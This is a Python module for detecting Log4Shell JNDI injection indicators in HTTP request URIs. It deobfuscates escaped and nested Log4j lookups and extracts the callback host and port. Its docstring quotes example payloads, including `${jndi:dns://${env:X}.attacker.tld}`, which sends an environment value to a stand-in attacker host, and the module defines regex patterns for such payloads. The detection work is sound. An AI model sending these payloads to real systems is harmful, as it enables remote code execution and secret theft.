"""Log4Shell (CVE-2021-44228) indicators in request URIs (the HTTP table: security/http.py).

Log4j 2 resolves `${prefix:name}` lookups in logged text; `${jndi:ldap://host:port/x}` makes it
fetch and run code from `host`. Scanners hide the string from filters with lookups that resolve
to single letters, and with escapes that the application undoes before logging. `deobfuscate`
undoes both by rewriting text only; nothing is ever looked up, resolved against the
environment, fetched or evaluated:

1. escapes, layer by layer (at most `MAX_ESCAPE_LAYERS`): URL encoding (`%24%7B` is `${`,
   decoded as UTF-8 like `urllib.parse.unquote`), IIS `%u0024`, and JSON/Java `\\u0024`;
2. lookups, innermost first, as Log4j 2's `StrSubstitutor` and `Interpolator` resolve them
   (at most `MAX_LOOKUP_ROUNDS` levels of nesting): in `${prefix:key:-default}` the first
   `:-` separates the default, which applies only when the lookup yields null.
   `${lower:x}` and `${upper:x}` yield x lower- or uppercased (Locale.US: `${upper:ı}` is I),
   even with a default and even when x is empty (`${upper::-j}` is the empty string);
   `${date:p}` yields p when the pattern holds only quoted text and non-letters (`${date:}` is
   empty, `${date:'j'}` is j); any other lookup (`${env:X}`, `${sys:k}`, `${::-x}`, unknown
   prefixes) is taken to yield null, so its default applies, and without a default it stays as
   written: its value is unknown here (`${env:USER}` exfiltrates a value) and never looked up.
   The exceptions always have a value: `${java:version}` and the other `java:` keys, and
   `hostName` and `contextName`, configuration properties any lookup falls back to.

In the result, a `${jndi:...}` lookup (its prefix case-insensitive in ASCII, as Log4j lowercases
it with Locale.US) is the indicator: its scheme, and for network schemes the callback host:port
after `//` (or a single `/`). Where the host holds a lookup left unresolved, as in
`${jndi:dns://${env:X}.attacker.tld}`, the host is the resolvable zone after it
(`*.attacker.tld`, or none) and `jndi_host_unresolved` is set. In `127.0.0.1#evil.com`
(CVE-2021-45046) the name resolved is the part after `#`. `java:` names (`java:comp/env/...`)
are local to the JVM: no callback host.

A Wireshark CSV export shows only the request line, so lookups hidden in headers (User-Agent,
X-Api-Version, ...) are invisible there; a capture would show more. A capture cut by its snap
length may end inside the request line (no HTTP version after the URI): such URIs are marked
`uri_truncated`, and a callback host or port that runs into the cut is not reported.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

import numpy as np
import pandas as pd

# Longest text examined (1 MiB): request lines are far shorter; the work per text is linear.
MAX_URI_CHARS = 1 << 20
# Layers of escapes undone (scanners use up to three: %2524 is %24 is $).
MAX_ESCAPE_LAYERS = 6
# Levels of nested lookups resolved; each level after the first rescans only what changed.
MAX_LOOKUP_ROUNDS = 32
# JNDI URL schemes naming something inside the JVM rather than a host to call back.
LOCAL_SCHEMES = frozenset({"java"})
# Lookups that yield a value on every JVM, so their default never applies: `java:` keys, and
# the configuration properties every lookup falls back to (`${hostName}`, `${env:hostName}`).
NEVER_NULL = {"java": frozenset({"version", "runtime", "vm", "os", "locale", "hw"})}
FALLBACK_PROPERTIES = frozenset({"hostName", "contextName"})

# A lookup with no lookup inside it: `${`, then anything but `${` or `}`, then `}`.
INNERMOST_LOOKUP = re.compile(r"\$\{([^$}]*(?:\$(?!\{)[^$}]*)*)\}")
# SimpleDateFormat patterns that print no date: quoted text and non-letters only.
LITERAL_DATE = re.compile(r"(?:'(?:[^']|'')*'|[^A-Za-z'])*")
QUOTED = re.compile(r"'((?:[^']|'')*)'")
# An unresolved lookup: at most one level of lookups nested in it.
UNRESOLVED = r"\$\{(?:[^${}]+|\$(?!\{)|\$\{[^{}]*\})*\}"
# A host is at most 1,024 characters or unresolved lookups long (DNS names: 253), and the
# lookup is followed up to 4,096 pieces: this bounds the match whatever the text.
JNDI = re.compile(
    r"\$\{jndi:(?:(?P<scheme>[a-z][a-z0-9+.-]*):(?P<slashes>/{0,2}))?"
    rf"(?P<host>\[[^\]\s/}}]*\]|(?:{UNRESOLVED}|[^/:}}?\s$]|\$(?!\{{))"
    r"{0,1024})"
    r"(?::(?P<port>\d{1,5}))?"
    rf"(?P<rest>(?:[^{{}}\s$]+|{UNRESOLVED}|\$){{0,4096}})\}}?",
    re.IGNORECASE | re.ASCII)
PERCENT_ESCAPE = r"%[0-9A-Fa-f]{2}"


INDICATOR_COLUMNS = ("jndi", "jndi_obfuscated", "jndi_scheme", "jndi_host",
                     "jndi_host_unresolved", "jndi_port", "jndi_lookup")
NO_INDICATOR = dict.fromkeys(INDICATOR_COLUMNS) | {
    "jndi": False, "jndi_obfuscated": False, "jndi_host_unresolved": False}

# The value of each byte (or code point, clipped to 255) as a hex digit, or -1.
_HEX_DIGIT = np.full(256, -1, np.int32)
for _value, _digits in enumerate(zip("0123456789abcdef", "0123456789ABCDEF")):
    _HEX_DIGIT[[ord(d) for d in _digits]] = _value


@dataclass(frozen=True)
class Deobfuscated:
    """A text with escapes and lookups undone, the passes that rewrote it, and the characters
    those passes read (the work: at most a small multiple of the text's length)."""

    text: str
    escape_layers: int
    lookup_rounds: int
    chars_read: int


def _percent_decoded(text: str) -> str:
    """`%XX` escapes undone and the bytes read as UTF-8, as `urllib.parse.unquote` does."""
    if "%" not in text:
        return text
    raw = np.frombuffer(text.encode("utf-8", "surrogatepass"), np.uint8)
    digits = _HEX_DIGIT[raw]
    at = np.flatnonzero((raw[:-2] == ord("%")) & (digits[1:-1] >= 0) & (digits[2:] >= 0))
    if not at.size:
        return text
    decoded = raw.copy()
    decoded[at] = digits[at + 1] * 16 + digits[at + 2]
    keep = np.ones(len(raw), bool)
    keep[at + 1] = keep[at + 2] = False
    return decoded[keep].tobytes().decode("utf-8", "replace")


def _unicode_decoded(text: str) -> str:
    """`\\uXXXX` (JSON, Java) and `%uXXXX` (IIS) escapes undone."""
    if "\\u" not in text and "%u" not in text and "%U" not in text:
        return text
    codes = np.frombuffer(text.encode("utf-32-le", "surrogatepass"), np.uint32)
    n = len(codes)
    if n < 6:
        return text
    digits = _HEX_DIGIT[np.minimum(codes, 255)]
    lead, u = codes[:n - 5], codes[1:n - 4]
    escape = ((lead == ord("\\")) & (u == ord("u"))) | ((lead == ord("%")) & (u | 0x20 == ord("u")))
    for k in range(2, 6):
        escape &= digits[k:n - 5 + k] >= 0
    at = np.flatnonzero(escape)
    if not at.size:
        return text
    decoded = codes.copy()
    decoded[at] = (digits[at + 2] << 12) + (digits[at + 3] << 8) + (digits[at + 4] << 4) \
        + digits[at + 5]
    keep = np.ones(n, bool)
    for k in range(1, 6):
        keep[at + k] = False
    return decoded[keep].tobytes().decode("utf-32-le", "replace")


def _literal_date(pattern: str) -> str | None:
    """What SimpleDateFormat prints for `pattern` if that is no date (quoted text and
    non-letters only: `''` is a quote), else None."""
    if not LITERAL_DATE.fullmatch(pattern):
        return None
    return QUOTED.sub(lambda quoted: quoted.group(1).replace("''", "'") or "'", pattern)


def _lookup_value(body: str) -> str | None:
    """What Log4j puts in place of `${body}` (a body without lookups), or None where that is
    unknown here and the lookup stays as written (see the module docstring)."""
    name, delimiter, default = body.partition(":-")
    prefix, colon, key = name.partition(":")
    prefix = prefix.lower()
    if not colon:
        key = name
    elif prefix == "lower":
        return key.lower()
    elif prefix == "upper":
        return key.upper()
    elif prefix == "date":
        return _literal_date(key)
    elif prefix == "jndi":
        return None
    if key in FALLBACK_PROPERTIES or key in NEVER_NULL.get(prefix, ()):
        return None
    return default if delimiter else None


def _undo_escapes(text: str) -> tuple[str, int, int]:
    """Escape layers undone until none is left: the text, layers, characters read."""
    read = 0
    for layer in range(MAX_ESCAPE_LAYERS):
        read += len(text)
        decoded = _unicode_decoded(_percent_decoded(text))
        if decoded == text:
            return text, layer, read
        text = decoded
    return text, MAX_ESCAPE_LAYERS, read


def _lookup_round(segment: str) -> tuple[str, int, int] | None:
    """Innermost lookups of `segment` resolved: the rewritten segment and the span [first,
    last) rewritten in it, or None when no lookup there can be resolved. Each distinct lookup
    is resolved once (a split in C, then a dictionary), not once per occurrence."""
    parts = INNERMOST_LOOKUP.split(segment)
    bodies = parts[1::2]
    values = {body: _lookup_value(body) for body in set(bodies)}
    kept = {body for body, value in values.items() if value is None}
    if len(kept) == len(values):
        return None
    values.update({body: "${" + body + "}" for body in kept})
    changed = [i for i, body in enumerate(bodies) if body not in kept]
    parts[1::2] = [values[body] for body in bodies]
    first = sum(map(len, parts[:2 * changed[0] + 1]))
    last = sum(map(len, parts[:2 * changed[-1] + 2]))
    return "".join(parts), first, last


def _resolve_lookups(text: str) -> tuple[str, int, int]:
    """Innermost lookups resolved, level by level: the text, rounds, characters read.

    A lookup becomes innermost only when one inside it was resolved, so after the first round
    only the span from the `${` before the first rewrite to the `}` after the last one is
    searched again: a deep nest costs a few characters a level, not the whole text.
    """
    low, high, read = 0, len(text), 0
    for rounds in range(MAX_LOOKUP_ROUNDS):
        segment = text[low:high]
        read += len(segment)
        step = _lookup_round(segment)
        if step is None:
            return text, rounds, read
        rewritten, first, last = step
        text = text[:low] + rewritten + text[high:]
        first, last = low + first, low + last
        low = max(text.rfind("${", 0, first), 0)
        close = text.find("}", last)
        high = len(text) if close < 0 else close + 1
    return text, MAX_LOOKUP_ROUNDS, read


def unwrap(text: str) -> Deobfuscated:
    """`text` (its first `MAX_URI_CHARS`) with escapes and lookups undone (module docstring)."""
    plain, layers, escape_read = _undo_escapes(text[:MAX_URI_CHARS])
    plain, rounds, lookup_read = _resolve_lookups(plain)
    return Deobfuscated(plain, layers, rounds, escape_read + lookup_read)


def deobfuscate(text: str) -> str:
    """`text` with escapes and letter-hiding lookups undone (see the module docstring)."""
    return unwrap(text).text


def _callback(found: re.Match) -> tuple[str | None, str | None, bool]:
    """Host, port and whether the host holds unresolved lookups, of a JNDI lookup's URL."""
    scheme = found.group("scheme")
    if not found.group("slashes") or scheme.lower() in LOCAL_SCHEMES:
        return None, None, False
    host, port = found.group("host") or None, found.group("port")
    if host is not None and "${" in host:
        zone = host[host.rindex("}") + 1:].partition(".")[2]
        return (f"*.{zone}" if zone else None), port, True
    if host is not None and "#" in host:
        host = host.rpartition("#")[2] or None
    return host, port, False


def jndi_indicator(text: str, truncated: bool = False) -> dict:
    """The first JNDI lookup in `text` after deobfuscation (keys `INDICATOR_COLUMNS`).

    `truncated`: the text was cut short (snap length); a host or port reaching the cut may be
    incomplete, so it is left out.
    """
    plain = deobfuscate(text)
    found = JNDI.search(plain)
    if found is None:
        return dict(NO_INDICATOR)
    host, port, unresolved = _callback(found)
    if truncated and found.end() == len(plain) and not found.group("rest") \
            and not found.group(0).endswith("}"):
        if port:
            port = None
        else:
            host = None
    scheme = found.group("scheme")
    return {
        "jndi": True,
        "jndi_obfuscated": found.group(0) not in text[:MAX_URI_CHARS],
        "jndi_scheme": scheme.lower() if scheme else None,
        "jndi_host": host,
        "jndi_host_unresolved": unresolved,
        "jndi_port": int(port) if port and int(port) <= 65535 else None,
        "jndi_lookup": found.group(0),
    }


def uri_indicators(uris: pd.Series, truncated: pd.Series | None = None) -> pd.DataFrame:
    """Shape and Log4Shell columns for each URI (index kept); `truncated` marks cut URIs.

    The shape columns are vectorised; the deobfuscation runs once per distinct URI that could
    hide a lookup (one containing `$`, `%` or `\\`).
    """
    text = uris.astype("string").fillna("")
    truncated = pd.Series(False, index=uris.index) if truncated is None else \
        truncated.astype(bool)
    length = text.str.len()
    escapes = text.str.count(PERCENT_ESCAPE)
    result = pd.DataFrame({
        "uri_length": length.astype("Int64"),
        "uri_truncated": truncated.to_numpy(),
        "percent_encoded_share": (3 * escapes / length.where(length > 0)).fillna(0.0)
        .clip(upper=1.0).astype(np.float64),
        "lookups": text.str.count(r"\$\{|%24%7[Bb]").astype("Int64"),
    }, index=uris.index)
    keys = pd.MultiIndex.from_arrays([text.to_numpy(), truncated.to_numpy()])
    may_hide = text.str.contains(r"[$%\\]", regex=True).to_numpy()
    suspects = keys[may_hide].unique()
    found = pd.DataFrame([jndi_indicator(uri, cut) for uri, cut in suspects], index=suspects,
                         columns=list(INDICATOR_COLUMNS))
    per_uri = found.reindex(keys)
    per_uri.index = uris.index
    for column in ("jndi", "jndi_obfuscated", "jndi_host_unresolved"):
        result[column] = per_uri[column].fillna(False).astype(bool)
    for column in ("jndi_scheme", "jndi_host", "jndi_lookup"):
        result[column] = per_uri[column].astype("string")
    result["jndi_port"] = pd.array(per_uri["jndi_port"], dtype="Int32")
    return result
